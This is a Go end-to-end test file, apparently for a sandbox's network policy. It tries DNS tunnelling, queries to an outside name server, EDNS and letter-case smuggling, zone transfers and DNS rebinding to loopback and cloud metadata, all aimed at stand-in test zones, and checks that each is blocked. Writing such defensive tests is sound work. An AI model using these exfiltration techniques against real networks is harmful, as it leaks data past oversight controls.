//go:build e2e

package attacks

import (
	"encoding/hex"
	"fmt"
	"net/netip"
	"strings"

	"github.com/nemoclaw/nemoclaw/test/harness"
)

const (
	exfilZone  = "exfil.dns.attacks.test" // whose owner listens; no rule names it
	wildZone   = "wild.dns.attacks.test"  // "*." of it may be reached
	deniedName = "denied.wild.dns.attacks.test"
	plainName  = "plain.dns.attacks.test" // may be reached
	tightName  = "tight.dns.attacks.test" // may be reached at another port, and has the same address
)

// asked: the name server of the world was asked for a name with the token.
func asked(s *scene, _ string) bool { return harness.W.DNS.Heard(s.token) }

// poisoned makes answers of an allowed name lead to address.
func poisoned(i int, name, address string) attempt {
	domain := fmt.Sprintf("p%d.dns.attacks.test", i)
	harness.W.DNS.Set(domain, netip.MustParseAddr(address))
	return attempt{name: "an allowed name that leads to " + name, user: true, do: fmt.Sprintf("reach %s %d {say}", domain, localPort), inside: "ECONNRESET",
		record: fmt.Sprintf("network %s:%d", domain, localPort), setup: spoken}
}

func dnsPlanes() []*plane {
	const exfiltrated = "dns {token}." + exfilZone
	const other = "203.0.113.53" // the world's name server, whatever resolv.conf says
	tunnel := func(kind string, record string) attempt {
		return attempt{name: "tunnel: " + kind + " question", user: true, do: "dns {resolver} {token}." + exfilZone + " " + kind, inside: "", note: "answered inside, not asked", record: record, harm: asked}
	}
	table := []attempt{
		tunnel("A", ""), tunnel("AAAA", ""), tunnel("TXT", exfiltrated), tunnel("NULL", exfiltrated), tunnel("ANY", ""), tunnel("MX", exfiltrated), tunnel("CNAME", exfiltrated), tunnel("HTTPS", ""),
		{name: "tunnel: reverse question", user: true, do: "dns {resolver} {token}.in-addr.arpa PTR", inside: "", note: "answered inside, not asked", harm: asked},
		{name: "tunnel: a name of 250 bytes", user: true, do: "dns {resolver} {token}." + strings.Repeat(strings.Repeat("x", 49)+".", 4) + "attacks.test A", inside: "", note: "answered inside, not asked", harm: asked},
		{name: "tunnel: over TCP", user: true, do: "dns-tcp {resolver} {token}." + exfilZone + " A", inside: "", note: "answered inside, not asked", harm: asked},
		{name: "zone transfer (AXFR)", user: true, do: "dns-tcp {resolver} {token}." + exfilZone + " AXFR", inside: "", note: "refused inside, not asked", harm: asked},
		{name: "another name server", user: true, do: "dns " + other + " {token}." + exfilZone + " A", inside: "", note: "answered inside, not asked", harm: asked},
		{name: "another name server, over TCP", user: true, do: "dns-tcp " + other + " {token}." + exfilZone + " TXT", inside: "", note: "answered inside, not asked", record: exfiltrated, harm: asked},
		{name: "another name server's port 853 (DNS over TLS)", user: true, do: "tcp " + other + " 853", inside: "EPERM", record: "network " + other + ":853"},
		{name: "multicast DNS (port 5353)", user: true, do: "udp " + other + " 5353", inside: "EPERM", record: "network " + other + ":5353"},
		{name: "data in an EDNS option of an allowed question", user: true, do: "dns-option {resolver} " + plainName + " {token}", inside: "", note: "answered inside, the option stays", harm: func(s *scene, _ string) bool {
			return harness.W.DNS.Heard(hex.EncodeToString([]byte(s.token))) || asked(s, "")
		}},
		{name: "data in upper and lower case of an allowed name", user: true, do: "dns {resolver} {case} A", inside: "", note: "asked in lower case", harm: func(s *scene, _ string) bool { return harness.W.DNS.Heard(s.vars["{case}"]) }, setup: mixedCase},
		{name: "a second question in one message", user: true, do: "dns-two {resolver} " + plainName + " {token}." + exfilZone, inside: "", note: "refused inside, not asked", harm: asked},
		{name: "another class (CHAOS)", user: true, do: "dns-class {resolver} {token}." + exfilZone, inside: "", note: "refused inside, not asked", harm: asked},
		{name: "dynamic update", user: true, do: "dns-update {resolver} {token}." + exfilZone, inside: "", note: "refused inside, not asked", harm: asked},
		{name: "notify", user: true, do: "dns-notify {resolver} {token}." + exfilZone, inside: "", note: "refused inside, not asked", harm: asked},
		{name: "a name that a deny rule names", user: true, do: "lookup " + deniedName, inside: "no such host", record: "+dns " + deniedName},
		{name: "a port of one name at the address of another", user: true, do: "tcp-to " + tightName + " 7000", inside: "EPERM", record: "network " + tightName + ":7000"},
		{name: "labels below an allowed wildcard", user: true, do: "dns {resolver} {token}." + wildZone + " A", harm: asked,
			open: "the label is asked for upstream, at a bounded rate (200 at once, then 5 a second). No level can tell it from a host's name: name exact hosts"},
		poisoned(1, "the host's loopback", "127.0.0.1"), poisoned(2, "a private network", private.String()), poisoned(3, "cloud metadata", metadata.String()),
		poisoned(4, "`0.0.0.0`", "0.0.0.0"), poisoned(5, "`::ffff:127.0.0.1`", "::ffff:127.0.0.1"),
	}
	allow := fmt.Sprintf("    - {domain: %q, ports: [7000], protocol: tcp}\n    - {domain: %s, ports: [7000], protocol: tcp}\n    - {domain: %s, ports: [7001], protocol: tcp}\n", "*."+wildZone, plainName, tightName)
	for i := 1; i <= 5; i++ {
		allow += fmt.Sprintf("    - {domain: p%d.dns.attacks.test, ports: [%d], protocol: tcp}\n", i, localPort)
	}
	return []*plane{{name: "dns", table: table, host: namesOfHost, allow: allow, network: "  deny:\n    - {domain: " + deniedName + "}\n"}}
}

func namesOfHost(p *place) {
	hosts(p)
	ok4 := netip.MustParseAddr(internet.vars["{ok4}"])
	for _, name := range []string{plainName, tightName, deniedName} {
		harness.W.DNS.Set(name, ok4)
	}
}

// mixedCase spells the allowed name so that the letters' case carries bits: natively others than inside.
func mixedCase(s *scene) {
	first := strings.ToUpper(plainName[:1])
	if s.inside {
		first = plainName[:1] + strings.ToUpper(plainName[1:2])
	}
	s.set("case", first+plainName[len(first):])
}
